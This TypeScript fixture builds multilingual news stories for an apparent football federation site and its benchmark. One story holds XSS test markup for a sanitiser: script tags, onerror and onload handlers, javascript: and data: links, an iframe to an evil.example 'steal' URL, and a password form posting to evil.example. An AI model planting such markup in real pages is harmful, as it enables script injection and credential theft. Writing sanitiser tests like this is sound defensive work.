/**
 * News: hand-written stories first, then stories composed from templates in the four languages,
 * so any count (36 by default, 2,000 for the benchmark) is realistic, fast and reproducible.
 */
import { html } from './html';
import { CITIES, OPPONENTS, TEAMS, TOURNAMENTS } from './names';
import { t, type Lang, type RawNews, type T } from './types';

const RUS_CITY_IN = ['Ташкенте', 'Самарканде', 'Намангане', 'Андижане', 'Карши', 'Бухаре', 'Фергане', 'Нукусе'];

/** Each language's text, built by a function of the language. */
function each(build: (lang: Lang) => string): T {
  return t(build('UZL'), build('RUS'), build('ENG'), build('UZK'));
}

/** Hand-written stories: the newest on the site. */
const STORIES: Array<Omit<RawNews, 'id' | 'date' | 'image'>> = [
  {
    title: t(
      'Oʻzbekiston terma jamoasi Jahon chempionati yoʻllanmasini qoʻlga kiritdi',
      'Сборная Узбекистана завоевала путёвку на чемпионат мира',
      'Uzbekistan secure their place at the World Cup',
      'Ўзбекистон терма жамоаси Жаҳон чемпионати йўлланмасини қўлга киритди',
    ),
    content: t(
      html([
        'Milliy terma jamoamiz saralash bosqichining hal qiluvchi oʻyinida gʻalaba qozonib, tarixda ilk bor Jahon chempionatiga yoʻllanma oldi.',
        { h2: 'Uchrashuv qanday kechdi' },
        'Birinchi boʻlimda jamoamiz toʻpni koʻproq nazorat qildi va ikkinchi boʻlim boshida hisobni ochdi. Himoya chizigʻi oʻyin oxirigacha ishonchli harakat qildi.',
        { ul: ['Toʻpga egalik: 58%', 'Darvozaga zarbalar: 14', 'Burchak toʻplari: 7'] },
        'Federatsiya rahbariyati futbolchilar, murabbiylar va barcha muxlislarni tabriklaydi.',
      ]),
      html([
        'Национальная сборная одержала победу в решающем матче отборочного турнира и впервые в истории вышла на чемпионат мира.',
        { h2: 'Как прошёл матч' },
        'В первом тайме наша команда больше владела мячом и открыла счёт в начале второго. Оборона уверенно действовала до финального свистка.',
        { ul: ['Владение мячом: 58%', 'Удары по воротам: 14', 'Угловые: 7'] },
        'Руководство федерации поздравляет игроков, тренеров и всех болельщиков.',
      ]),
      html([
        'The national team won the decisive qualifier and will play at the World Cup for the first time in its history.',
        { h2: 'How the match went' },
        'Our side had more of the ball in the first half and opened the scoring early in the second. The back line held firm until the final whistle.',
        { ul: ['Possession: 58%', 'Shots on target: 14', 'Corners: 7'] },
        'The federation congratulates the players, the coaches and every supporter.',
      ]),
      html([
        'Миллий терма жамоамиз саралаш босқичининг ҳал қилувчи ўйинида ғалаба қозониб, тарихда илк бор Жаҳон чемпионатига йўлланма олди.',
        { h2: 'Учрашув қандай кечди' },
        'Биринчи бўлимда жамоамиз тўпни кўпроқ назорат қилди ва иккинчи бўлим бошида ҳисобни очди. Ҳимоя чизиғи ўйин охиригача ишончли ҳаракат қилди.',
        { ul: ['Тўпга эгалик: 58%', 'Дарвозага зарбалар: 14', 'Бурчак тўплари: 7'] },
        'Федерация раҳбарияти футболчилар, мураббийлар ва барча мухлисларни табриклайди.',
      ]),
    ),
  },
  {
    title: t(
      'Superliga: mavsumning yakuniy turi jadvali eʼlon qilindi',
      'Суперлига: опубликовано расписание заключительного тура',
      'Super League: schedule of the final round announced',
      'Суперлига: мавсумнинг якуний тури жадвали эълон қилинди',
    ),
    content: each((l) =>
      html([
        {
          UZL: 'Oʻzbekiston Superligasining yakuniy turi barcha stadionlarda bir vaqtda boshlanadi.',
          RUS: 'Заключительный тур Суперлиги Узбекистана начнётся одновременно на всех стадионах.',
          ENG: "The final round of Uzbekistan's Super League kicks off at the same time in every stadium.",
          UZK: 'Ўзбекистон Суперлигасининг якуний тури барча стадионларда бир вақтда бошланади.',
        }[l],
        {
          table: {
            head: { UZL: ['Uchrashuv', 'Shahar', 'Vaqt'], RUS: ['Матч', 'Город', 'Время'], ENG: ['Match', 'City', 'Time'], UZK: ['Учрашув', 'Шаҳар', 'Вақт'] }[l],
            rows: [
              ['Paxtakor — Nasaf', CITIES[0][l]!, '18:00'],
              ['Navbahor — Soʻgʻdiyona', CITIES[2][l]!, '18:00'],
              ['Bunyodkor — Andijon', CITIES[0][l]!, '18:00'],
            ],
          },
        },
        {
          UZL: 'Chiptalar stadion kassalarida va rasmiy sotuv nuqtalarida.',
          RUS: 'Билеты продаются в кассах стадионов и официальных точках продаж.',
          ENG: 'Tickets are on sale at stadium box offices and official outlets.',
          UZK: 'Чипталар стадион кассаларида ва расмий сотув нуқталарида.',
        }[l],
      ]),
    ),
  },
  {
    title: t(
      'Hakamlar uchun yangi oʻquv dasturi ishga tushirildi',
      'Запущена новая учебная программа для арбитров',
      'A new training programme for referees begins',
      'Ҳакамлар учун янги ўқув дастури ишга туширилди',
    ),
    content: each((l) =>
      html([
        {
          UZL: 'Federatsiya hakamlar qoʻmitasi VAR tizimi bilan ishlash boʻyicha yangi dasturni taqdim etdi.',
          RUS: 'Комитет арбитров федерации представил новую программу работы с системой VAR.',
          ENG: "The federation's referees committee has presented a new programme on working with VAR.",
          UZK: 'Федерация ҳакамлар қўмитаси VAR тизими билан ишлаш бўйича янги дастурни тақдим этди.',
        }[l],
        {
          ol: {
            UZL: ['Nazariy mashgʻulotlar', 'Videotahlil', 'Amaliy sinov'],
            RUS: ['Теоретические занятия', 'Видеоанализ', 'Практический экзамен'],
            ENG: ['Theory sessions', 'Video analysis', 'Practical assessment'],
            UZK: ['Назарий машғулотлар', 'Видеотаҳлил', 'Амалий синов'],
          }[l],
        },
        {
          raw: '<p><iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" title="Referees" width="560" height="315"></iframe></p>',
        },
      ]),
    ),
  },
  {
    // An English translation the editors have not written yet: no card and no page in English.
    title: t(
      'Ayollar futboli boʻyicha viloyat turniri yakunlandi',
      'Завершился областной турнир по женскому футболу',
      null,
      'Аёллар футболи бўйича вилоят турнири якунланди',
    ),
    content: t(
      html(['Turnirda 12 ta jamoa ishtirok etdi. Gʻoliblar respublika bosqichiga yoʻllanma oldi.']),
      html(['В турнире участвовали 12 команд. Победители вышли в республиканский этап.']),
      null,
      html(['Турнирда 12 та жамоа иштирок этди. Ғолиблар республика босқичига йўлланма олди.']),
    ),
  },
  {
    title: t(
      'Futbol akademiyalari uchun litsenziyalash talablari yangilandi',
      'Обновлены требования к лицензированию футбольных академий',
      '',
      'Футбол академиялари учун лицензиялаш талаблари янгиланди',
    ),
    content: t(
      html(['Yangi talablar 2027-yil 1-yanvardan kuchga kiradi.']),
      html(['Новые требования вступают в силу с 1 января 2027 года.']),
      '',
      html(['Янги талаблар 2027 йил 1 январдан кучга киради.']),
    ),
  },
  {
    // Hostile markup from an editor's paste: the site must render the harmless parts only.
    title: t(
      'Sinov: muharrir formatlashi',
      'Тест: форматирование редактора',
      "Test: editor's formatting",
      'Синов: муҳаррир форматлаши',
    ),
    content: each((l) =>
      html([
        { h2: { UZL: 'Sarlavha', RUS: 'Заголовок', ENG: 'A heading', UZK: 'Сарлавҳа' }[l] },
        {
          UZL: 'Oddiy matn qoladi.',
          RUS: 'Обычный текст остаётся.',
          ENG: 'Plain text stays.',
          UZK: 'Оддий матн қолади.',
        }[l],
        { ul: ['Bir', 'Ikki'] },
        { table: { head: ['A', 'B'], rows: [[1, 2]] } },
        { raw: '<script>window.__xss = 1</script>' },
        { raw: '<img src="x" onerror="window.__xss = 2" alt="broken">' },
        { raw: '<p><a href="javascript:window.__xss = 3">javascript link</a></p>' },
        { raw: '<p><a href="data:text/html,<script>parent.__xss = 4</script>">data link</a></p>' },
        { raw: '<iframe src="https://evil.example/steal"></iframe>' },
        { raw: '<form action="https://evil.example/collect"><input name="password"><button>Send</button></form>' },
        { raw: '<svg onload="window.__xss = 5"><circle r="5"/></svg>' },
        { raw: '<style>body { display: none }</style>' },
        { raw: '<p style="position:fixed;inset:0" onclick="window.__xss = 6">styled</p>' },
        { raw: '<p><a href="https://www.the-afc.com">AFC</a></p>' },
        { raw: '<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" onload="window.__xss = 7"></iframe>' },
      ]),
    ),
  },
];

/** Title templates: (team, city index, opponent, tournament) -> the four languages. */
type Slots = { team: T; city: number; opponent: T; tournament: T };
const TITLES: Array<(s: Slots) => T> = [
  ({ team, city }) =>
    t(
      `${team.UZL} ${CITIES[city]!.UZL}da oʻquv-yigʻinni boshladi`,
      `${team.RUS} начала сбор в ${RUS_CITY_IN[city]}`,
      `${team.ENG} begins a training camp in ${CITIES[city]!.ENG}`,
      `${team.UZK} ${CITIES[city]!.UZK}да ўқув-йиғинни бошлади`,
    ),
  ({ team, opponent }) =>
    t(
      `${team.UZL} ${opponent.UZL} bilan oʻrtoqlik uchrashuvini oʻtkazdi`,
      `${team.RUS} провела товарищеский матч с ${opponent.RUS}`,
      `${team.ENG} plays a friendly against ${opponent.ENG}`,
      `${team.UZK} ${opponent.UZK} билан ўртоқлик учрашувини ўтказди`,
    ),
  ({ team, tournament }) =>
    t(
      `${team.UZL} ${tournament.UZL} uchun tarkibni eʼlon qildi`,
      `${team.RUS}: объявлен состав для ${tournament.RUS}`,
      `${team.ENG} names its squad for ${tournament.ENG}`,
      `${team.UZK} ${tournament.UZK} учун таркибни эълон қилди`,
    ),
  ({ city }) =>
    t(
      `${CITIES[city]!.UZL}da yosh hakamlar uchun seminar boʻlib oʻtdi`,
      `В ${RUS_CITY_IN[city]} прошёл семинар для молодых арбитров`,
      `A seminar for young referees is held in ${CITIES[city]!.ENG}`,
      `${CITIES[city]!.UZK}да ёш ҳакамлар учун семинар бўлиб ўтди`,
    ),
  ({ city }) =>
    t(
      `${CITIES[city]!.UZL}da yangi futbol maydoni foydalanishga topshirildi`,
      `В ${RUS_CITY_IN[city]} открылось новое футбольное поле`,
      `A new football pitch opens in ${CITIES[city]!.ENG}`,
      `${CITIES[city]!.UZK}да янги футбол майдони фойдаланишга топширилди`,
    ),
  ({ city }) =>
    t(
      `${CITIES[city]!.UZL}da bolalar futboli festivali oʻtkazildi`,
      `В ${RUS_CITY_IN[city]} прошёл фестиваль детского футбола`,
      `A children's football festival takes place in ${CITIES[city]!.ENG}`,
      `${CITIES[city]!.UZK}да болалар футболи фестивали ўтказилди`,
    ),
  ({ city }) =>
    t(
      `${CITIES[city]!.UZL}da klublarni litsenziyalash boʻyicha seminar`,
      `В ${RUS_CITY_IN[city]} прошёл семинар по лицензированию клубов`,
      `Club licensing seminar in ${CITIES[city]!.ENG}`,
      `${CITIES[city]!.UZK}да клубларни лицензиялаш бўйича семинар`,
    ),
  ({ team }) =>
    t(
      `${team.UZL} tayyorgarlikni davom ettirmoqda`,
      `${team.RUS} продолжает подготовку`,
      `${team.ENG} continues its preparation`,
      `${team.UZK} тайёргарликни давом эттирмоқда`,
    ),
];

const BODY: Record<Lang, { lead: string; heading: string; points: string[]; close: string }> = {
  UZL: {
    lead: 'Federatsiya matbuot xizmati xabar berishicha, tadbir belgilangan reja asosida oʻtkazildi.',
    heading: 'Asosiy natijalar',
    points: ['Mashgʻulotlar kuniga ikki marta oʻtkazildi', 'Tibbiy koʻrikdan barcha futbolchilar oʻtdi', 'Murabbiylar shtabi tahliliy yigʻilish oʻtkazdi'],
    close: 'Keyingi bosqich haqida qoʻshimcha maʼlumot beriladi.',
  },
  RUS: {
    lead: 'Как сообщает пресс-служба федерации, мероприятие прошло в соответствии с утверждённым планом.',
    heading: 'Главные итоги',
    points: ['Тренировки проходили дважды в день', 'Все футболисты прошли медицинский осмотр', 'Тренерский штаб провёл аналитическое совещание'],
    close: 'О следующем этапе будет сообщено дополнительно.',
  },
  ENG: {
    lead: "According to the federation's press office, the event went ahead as planned.",
    heading: 'Key points',
    points: ['Training sessions took place twice a day', 'Every player passed a medical', 'The coaching staff held a review meeting'],
    close: 'Details of the next stage will follow.',
  },
  UZK: {
    lead: 'Федерация матбуот хизмати хабар беришича, тадбир белгиланган режа асосида ўтказилди.',
    heading: 'Асосий натижалар',
    points: ['Машғулотлар кунига икки марта ўтказилди', 'Тиббий кўрикдан барча футболчилар ўтди', 'Мураббийлар штаби таҳлилий йиғилиш ўтказди'],
    close: 'Кейинги босқич ҳақида қўшимча маълумот берилади.',
  },
};

const DAY_MS = 86_400_000;
/** The newest story's date; the rest go back in time from it. */
const NEWEST = Date.parse('2026-11-20T09:30:00Z');

function generatedStory(index: number): Omit<RawNews, 'id' | 'date' | 'image'> {
  const slots: Slots = {
    team: TEAMS[(index * 3) % TEAMS.length]!,
    city: (index * 5) % CITIES.length,
    opponent: OPPONENTS[(index * 7) % OPPONENTS.length]!,
    tournament: TOURNAMENTS[index % TOURNAMENTS.length]!,
  };
  const title = TITLES[index % TITLES.length]!(slots);
  const content = each((l) => {
    const b = BODY[l];
    return html([`<strong>${title[l]}.</strong> ${b.lead}`, { h2: b.heading }, { ul: b.points }, b.close]);
  });
  return { title, content };
}

/** Photos in the pool the stories draw from (the benchmark's 2,000 stories reuse them). */
export const NEWS_IMAGE_POOL = 12;

export function buildNews(count: number): RawNews[] {
  return Array.from({ length: count }, (_, index) => {
    const story = index < STORIES.length ? STORIES[index]! : generatedStory(index);
    const id = index + 1;
    return {
      id,
      ...story,
      // Newest first by id, roughly a story every 1.5 days, at varied times of day.
      date: new Date(NEWEST - index * 1.5 * DAY_MS - (index % 5) * 3_600_000).toISOString().replace('.000Z', 'Z'),
      // Most pictures are paths on the API's origin; every ninth an absolute URL, as editors do both.
      image: id % 9 === 0 ? `@self:/uploads/news/${id}.jpg` : `/uploads/news/${id}.jpg`,
    };
  });
}

export const HOSTILE_NEWS_ID = STORIES.findIndex((s) => s.title.ENG === "Test: editor's formatting") + 1;
